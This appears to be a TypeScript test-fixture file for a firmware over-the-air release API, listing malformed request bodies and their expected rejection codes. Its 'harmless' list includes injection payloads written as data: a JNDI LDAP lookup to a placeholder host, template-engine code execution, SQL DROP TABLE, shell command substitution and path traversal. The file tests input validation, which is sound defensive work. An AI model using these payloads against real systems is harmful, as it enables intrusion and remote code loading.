import { bodyOf, sampleArtifact, withMember } from '../../support/sample.ts';
import { change, type HostileBody, ok, on, quoted, s3Location, variable, withdrawn } from './bodies.ts';

type Path = readonly (string | number)[];

/** Values of the wrong kind for each member of a release; those that it may leave out must not be null either. */
const wrong: readonly [path: Path, values: readonly unknown[]][] = [
  [['product'], [null, 7, '', 'Thermostat', 'thermo stat', 'a'.repeat(65), ['thermostat'], {}]],
  [['version'], [null, 2, '', ['2.4.1'], {}]],
  [['revision'], [null, true, [1], '2']],
  [['channels'], [null, 'beta', [], {}, [null], [['beta']], ['']]],
  [['artifacts'], [null, {}, [], [null], ['app.bin'], [[]], [{}]]],
  [
    ['artifacts', 0, 'fileName'],
    [null, 7, ['/app.bin']],
  ],
  [
    ['artifacts', 0, 'fileType'],
    [null, '0', 0.5, true],
  ],
  [
    ['artifacts', 0, 'fileVersion'],
    [null, 2],
  ],
  [
    ['artifacts', 0, 'fileLocation'],
    [null, {}, 's3://acme-firmware/app.bin', []],
  ],
  [s3Location, [null, {}, 'app.bin']],
  [
    [...s3Location, 'bucket'],
    [null, '', 7],
  ],
  [
    [...s3Location, 'key'],
    [null, '', 7],
  ],
  [
    [...s3Location, 'version'],
    [null, '', 7],
  ],
  [
    ['artifacts', 0, 'sha256'],
    [null, '', 7, 'a'.repeat(63), 'A'.repeat(64), 'g'.repeat(64), `${'a'.repeat(64)}\n`],
  ],
  [
    ['artifacts', 0, 'sizeBytes'],
    [null, '412345', 0, -1, 1.5],
  ],
  [
    ['artifacts', 0, 'codeSigning'],
    [null, 'acme_t6', [], { neverlog: 1 }],
  ],
  [
    ['artifacts', 0, 'attributes'],
    [null, [], 'board=T6', { board: 6 }, { board: null }, { board: ['T6'] }],
  ],
  [
    ['artifacts', 0, 'jobDocument'],
    [null, 'true', 1],
  ],
  [['hardware'], [null, 'T6-B', [7], [''], {}]],
  [['description'], [null, '', 7, ['neverlog']]],
  [['tags'], [null, [], 'ci=1', { ci: 1 }, { ci: null }, { '': 'x' }, [{ Key: 'ci', Value: '1' }]]],
  [['targets'], [null, [], 'arn:aws:iot:us-east-1:123456789012:thing/lab-1', [''], [7]]],
  [['startAt'], [null, 1, '']],
  [['endAt'], [null, 1, '']],
  [['notAfter'], [null, 1782345600000, '', true]],
  [['dryRun'], [null, 'true', 1, 0]],
  [['correlationId'], [null, 7, '', 'x'.repeat(257)]],
];

const withdrawalsWrong: readonly [path: Path, values: readonly unknown[]][] = [
  [['product'], [undefined, null, '', 'a#b']],
  [['version'], [undefined, null, '2.4', '']],
  [['revision'], [null, 0, '1', 1.5]],
  [['channels'], [null, 'beta', ['Beta'], ['beta', 'beta']]],
  [['reasonCode'], [null, '', 'x'.repeat(129), 'a\nb']],
  [['comment'], [null, 'x'.repeat(2001), 'neverlog\u0007', 'neverlog\u0000', 'neverlog\u2028'.repeat(300)]],
  [['force'], [null, 'true', 1]],
  [['correlationId'], [null, '', 'x\u0085y']],
  [['artifacts'], [[]]],
];

const named = (path: Path) => path.join('.');

export const wrongMembers: readonly HostileBody[] = [
  ...wrong.flatMap(([path, values]) =>
    values.map((value): HostileBody => [`${named(path)} as ${quoted(value)}`, change(path, value), 'INVALID_RELEASE']),
  ),
  ...(['product', 'version', 'channels', 'artifacts'] as const).map(
    (member): HostileBody => [`${member} left out`, change([member], undefined), 'INVALID_RELEASE'],
  ),
  ...withdrawalsWrong.flatMap(([path, values]) =>
    values.map(
      (value): HostileBody => [
        `withdrawn: ${named(path)} as ${quoted(value)}`,
        bodyOf(withMember({ product: 'thermostat', version: '2.4.1' }, path, value), withdrawn),
        'INVALID_WITHDRAWAL',
      ],
    ),
  ),
];

/** Members that a release does not have: roles, templates of ours, what AWS has beside it. */
export const strangeMembers: readonly HostileBody[] = [
  ['a role of its own choice', change(['roleArn'], 'arn:aws:iam::999999999999:role/admin'), 'INVALID_RELEASE'],
  ['our own role', change(['roleArn'], 'arn:aws:iam::123456789012:role/ota-service-fuzz'), 'INVALID_RELEASE'],
  ['a role beside the file', change(['artifacts', 0, 'roleArn'], 'arn:aws:iam::999999999999:role/admin'), 'INVALID_RELEASE'],
  ['a template of ours', change(['createOTAUpdate'], {}), 'INVALID_RELEASE'],
  ['a task of ours', change(['createOtaTask'], { OtaType: 'ONE_TIME' }), 'INVALID_RELEASE'],
  ['an id of its own choice', change(['otaUpdateId'], 'fw-neverlog'), 'INVALID_RELEASE'],
  ['a token of its own choice', change(['ClientToken'], 'neverlog'), 'INVALID_RELEASE'],
  ['abort criteria of its own', change(['awsJobAbortConfig'], { abortCriteriaList: [] }), 'INVALID_RELEASE'],
  ['no guard rails', change(['unguarded'], 'allow'), 'INVALID_RELEASE'],
  ['protocols of its own', change(['protocols'], ['HTTP']), 'INVALID_RELEASE'],
  ['parameters of its own', change(['additionalParameters'], { 'ota-dispatch.rolloutId': 'neverlog' }), 'INVALID_RELEASE'],
  ['a job document in itself', change(['S3Url'], 's3://neverlog/job.json'), 'INVALID_RELEASE'],
  ['a query of its own', change(['OtaTargetQueryString'], 'attributes.model=*'), 'INVALID_RELEASE'],
  ['a member in capitals', change(['Product'], 'thermostat'), 'INVALID_RELEASE'],
  ['a member with a blank', change(['dryRun '], true), 'INVALID_RELEASE'],
  ['a member that looks like another', change(['dryRun\u200b'], true), 'INVALID_RELEASE'],
  ['a member without a name', change([''], 1), 'INVALID_RELEASE'],
  ['a member with a name of control characters', change(['\u001b[2J\r\n'], 1), 'INVALID_RELEASE'],
  ['an old shape of AWS, fileSource', change(['artifacts', 0, 'fileSource'], { streamId: 'a', fileId: 0 }), 'INVALID_RELEASE'],
  ['a stream and a member of S3', change(['artifacts', 0, 'fileLocation', 'bucket'], 'acme-firmware'), 'INVALID_RELEASE'],
  ['the owner of the bucket', change([...s3Location, 'expectedBucketOwner'], '999999999999'), 'INVALID_RELEASE'],
];

/** Values that are right, or that only look wrong. */
export const harmless: readonly HostileBody[] = [
  ['a variable of ours, which is text like any other', change(['description'], variable('aws:accountId')), null],
  ['an expression of a template engine', change(['description'], '{{constructor.constructor("neverlog")()}}'), null],
  ['a lookup', change(['description'], variable('jndi:ldap://neverlog.example/a')), null],
  ['SQL', change(['artifacts', 0, 'fileName'], "'; DROP TABLE neverlog; --"), null],
  ['a shell', change(['artifacts', 0, 'fileName'], '$(touch neverlog)`touch neverlog`'), null],
  ['a path on the device', change(['artifacts', 0, 'fileName'], '../../neverlog/passwd'), null],
  ['an empty name of a file', change(['artifacts', 0, 'fileName'], ''), null],
  ['an empty version of a file', change(['artifacts', 0, 'fileVersion'], ''), null],
  ['empty attributes', change(['artifacts', 0, 'attributes'], {}), null],
  ['an attribute without a name', change(['artifacts', 0, 'attributes'], { '': 'neverlog' }), null],
  ['no tags at all', change(['tags'], {}), null],
  ['no hardware at all, where none is asked for', change(['hardware'], []), null],
  ['the same hardware twice', change(['hardware'], ['neverlog', 'neverlog']), null],
  ['a correlationId of 256 characters of two units', change(['correlationId'], '🔥'.repeat(256)), null],
  ['a correlationId of 257 characters of two units', change(['correlationId'], '🔥'.repeat(257)), 'INVALID_RELEASE'],
  ['a product of 64 characters', change(['product'], 'a'.repeat(64)), null, 'UNKNOWN_PRODUCT'],
  ['a product that is a number', change(['product'], '0'), null, 'UNKNOWN_PRODUCT'],
  ['an unknown product', change(['product'], 'thermostat-2'), null, 'UNKNOWN_PRODUCT'],
  ['an unknown channel', change(['channels'], ['nightly']), null, 'UNKNOWN_CHANNEL'],
  ['an unknown channel beside a known one', change(['channels'], ['beta', 'nightly']), null, 'UNKNOWN_CHANNEL'],
  ['a channel of another product', change(['channels'], ['main']), null, 'UNKNOWN_CHANNEL'],
  ['the product as its channel', change(['channels'], ['thermostat']), null, 'UNKNOWN_CHANNEL'],
  ['a channel twice', change(['channels'], ['beta', 'beta']), 'INVALID_RELEASE'],
  ['a channel twice, far apart', change(['channels'], ['beta', 'stable', 'lab', 'beta']), 'INVALID_RELEASE'],
  ['a channel with a pattern', change(['channels'], ['*']), 'INVALID_RELEASE'],
  ['a separator of keys in the product', change(['product'], 'a#b'), 'INVALID_RELEASE'],
  ['a separator of keys in the channel', change(['channels'], ['beta#1']), 'INVALID_RELEASE'],
  ['a path in the product', change(['product'], '../../etc'), 'INVALID_RELEASE'],
  ['a Cyrillic letter in the product', change(['product'], 'th\u0435rmostat'), 'INVALID_RELEASE'],
  ['a line break after the product', change(['product'], 'thermostat\n'), 'INVALID_RELEASE'],
  ['a line break after the channel', change(['channels'], ['beta\n']), 'INVALID_RELEASE'],
  ['a dry run', change(['dryRun'], true), null],
  ['a dry run of what would be refused', on('nightly', { dryRun: true }), null],
  ['a dry run from a stranger', ok.replace('com.acme.firmware-ci', 'com.neverlog').replace('"product"', '"dryRun":true,"product"'), null],
];

const emptyIn = (channel: string, member: string) => on(channel, { artifacts: [{ ...sampleArtifact(), [member]: {} }] });

/** Members that are empty. They say nothing where nothing is required in them. */
export const emptyMembers: readonly HostileBody[] = [
  ['no tags', change(['tags'], {}), null],
  ['no hardware', change(['hardware'], []), null],
  ['no attributes', emptyIn('beta', 'attributes'), null],
  ['no attributes on MI', emptyIn('hubs', 'attributes'), null],
  ['no signature where the channel signs', emptyIn('beta', 'codeSigning'), null],
  ['no signature where none is needed', emptyIn('unsigned', 'codeSigning'), null],
  ['no signature where one is needed', emptyIn('plain', 'codeSigning'), null, 'UNSIGNED_ARTIFACT'],
  ['no signature on MI', emptyIn('hubs', 'codeSigning'), null],
  ['no location', emptyIn('beta', 'fileLocation'), 'INVALID_RELEASE'],
];
